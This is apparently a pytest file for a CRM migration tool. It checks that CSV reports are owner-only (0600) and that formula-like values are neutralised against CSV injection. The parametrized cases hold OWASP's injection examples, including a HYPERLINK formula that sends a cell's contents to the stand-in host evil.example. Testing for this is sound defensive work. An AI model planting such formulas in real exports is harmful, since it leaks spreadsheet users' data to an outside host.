"""The migration's CSV report (backfill and reconcile write it alike): its owner's alone from the
moment it exists, and nothing in it a spreadsheet would run."""

from __future__ import annotations

import csv
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest

from crm_bridge.migrate.backfill import REPORT_COLUMNS, Outcome, Report
from crm_bridge.migrate.reconcile import Difference, write_report


@pytest.fixture(autouse=True)
def usual_umask() -> Iterator[None]:
    """The umask most shells have (022): files are created readable by everyone unless told otherwise."""
    previous = os.umask(0o022)
    yield
    os.umask(previous)


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


def test_a_new_report_is_its_owners_alone_before_anything_is_written(tmp_path: Path) -> None:
    path = tmp_path / "backfill.csv"

    report = Report(path, REPORT_COLUMNS)
    try:
        assert mode(path) == 0o600
    finally:
        report.close()


def test_a_resumed_report_found_readable_by_others_is_made_the_owners_alone(tmp_path: Path) -> None:
    path = tmp_path / "backfill.csv"
    report = Report(path, REPORT_COLUMNS)
    report.add(Outcome("101", "created", "espocrm:abc", 2))
    report.close()
    path.chmod(0o644)  # copied around, or written by an older version

    report = Report(path, REPORT_COLUMNS, append=True)
    report.add(Outcome("102", "skipped", reason="no phone or e-mail"))
    report.close()

    assert mode(path) == 0o600
    assert [row[0] for row in rows(path)] == ["source_record", "101", "102"], "appended, not started over"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        # OWASP's own examples ("CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection).
        ('=1+2";=1+2', '"\'=1+2"";=1+2"'),
        ("=1+2'\" ;,=1+2", '"\'=1+2\'"" ;,=1+2"'),
        (
            '=HYPERLINK("https://evil.example/?d="&A2,"Ayşe")',
            '"\'=HYPERLINK(""https://evil.example/?d=""&A2,""Ayşe"")"',
        ),
        ("+905321234567", '"\'+905321234567"'),
        ("-2+3", '"\'-2+3"'),
        ("@SUM(A1:A9)", '"\'@SUM(A1:A9)"'),
        ("\t=1+2", '"\'\t=1+2"'),
        ("\r=1+2", '"\'\r=1+2"'),
        ("\uff1d1+2", '"\'\uff1d1+2"'),
        ("Ayşe; =1+2", '"Ayşe; =1+2"'),
    ],
)
def test_a_value_is_written_as_text_a_spreadsheet_never_runs(tmp_path: Path, value: str, cell: str) -> None:
    """A cell that starts like a formula gets a leading ``'``; every cell is quoted, so a separator
    inside a value (``,`` or a locale's ``;``) cannot start a cell of its own."""
    path = tmp_path / "reconcile.csv"

    write_report(path, [Difference("differs", "bitrix24:7", "espocrm:abc", "first_name", value, "Ayşe")])

    assert f',"first_name",{cell},"Ayşe"' in path.read_bytes().decode("utf-8"), "the file as written"
    (_, row) = rows(path)
    assert row[4] == (value if value.startswith("Ayşe") else f"'{value}"), "read back: the value, marked as text"
